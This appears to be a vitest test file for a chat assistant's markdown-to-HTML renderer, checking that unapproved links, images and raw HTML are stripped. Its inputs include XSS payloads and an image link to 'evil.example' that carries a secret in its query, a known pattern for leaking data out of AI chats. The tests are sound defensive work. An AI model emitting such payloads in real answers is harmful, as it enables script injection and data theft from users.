import { describe, expect, it } from "vitest";
import { answerHtml, parseBlocks } from "#app/chat/assistant/answer-html.server.ts";

const target = (url: string) => (url === "/docs#api-key" ? url : undefined);

function render(markdown: string): string {
  return answerHtml({ locale: "en", question: 'Which "plans"?', target })(parseBlocks(markdown));
}

it("a given link opens in place of the page around the frame", () => {
  expect(render("Ask [sales](/docs#api-key).")).toBe(
    '<p>Ask <a href="/docs#api-key" target="_top">sales</a>.</p>',
  );
});

describe("a link that was not given keeps its text alone", () => {
  it.each([
    ["[**sales**](https://evil.example/)", "<p><strong>sales</strong></p>"],
    ["[sales](javascript:alert(1))", "<p>sales</p>"],
    ["[sales](//evil.example/docs#api-key)", "<p>sales</p>"],
    ["[sales](/docs)", "<p>sales</p>"],
    ["[sales][1]\n\n[1]: https://evil.example", "<p>sales</p>"],
    ["<https://evil.example>", "<p>https://evil.example</p>"],
    ["www.evil.example", "<p>www.evil.example</p>"],
    ["a@evil.example", "<p>a@evil.example</p>"],
  ])("%s", (markdown, html) => {
    expect(render(markdown)).toBe(html);
  });
});

describe("images and HTML are left out", () => {
  it.each([
    ["![pixel](https://evil.example/?q=secret)Yes.", "<p>Yes.</p>"],
    ["![pixel][1] Yes.\n\n[1]: https://evil.example", "<p> Yes.</p>"],
    ["[![pixel](/docs#api-key)](/docs#api-key)", ""],
    ["Yes<script>alert(1)</script>", "<p>Yesalert(1)</p>"],
    ["<img src=x onerror=alert(1)>", ""],
    ["<style>body{display:none}</style>", ""],
    ["<b onclick=alert(1)>Yes</b>", "<p>Yes</p>"],
    ["`<b>` &lt;i&gt;", "<p><code>&#x3C;b></code> &#x3C;i></p>"],
    ["Yes[^1]\n\n[^1]: A note.", "<p>Yes</p>"],
  ])("%s", (markdown, html) => {
    expect(render(markdown)).toBe(html);
  });
});

it("a table scrolls in a region with a name, as those of pages do", () => {
  const html = render("| Plan | Price |\n| --- | ---: |\n| Starter<br>for one | **free** |");
  expect(html).toContain(
    '<section class="scroll-x" tabindex="0" aria-label="Which &#x22;plans&#x22;?"><table class="grid-table">',
  );
  expect(html).toContain('<th scope="row">Starter<br>for one</th>');
  expect(html).toContain('<td class="num"><strong>free</strong></td>');
});

it("code can be copied, and is text", () => {
  const html = render("```bash\ncurl '<b>'\n```");
  expect(html).toContain("<span>Shell</span><button");
  expect(html).toContain("<code>curl &apos;&lt;b&gt;&apos;</code>");
});

it("a heading is a paragraph, and a task has no checkbox", () => {
  expect(render("# Plans")).toBe("<p><strong>Plans</strong></p>");
  expect(render("- [ ] Ask")).not.toContain("<input");
});

it("Chinese emphasis ends before a full-width mark", () => {
  expect(render("**注意：**价格**（美元）**如下。")).toBe(
    "<p><strong>注意：</strong>价格<strong>（美元）</strong>如下。</p>",
  );
});
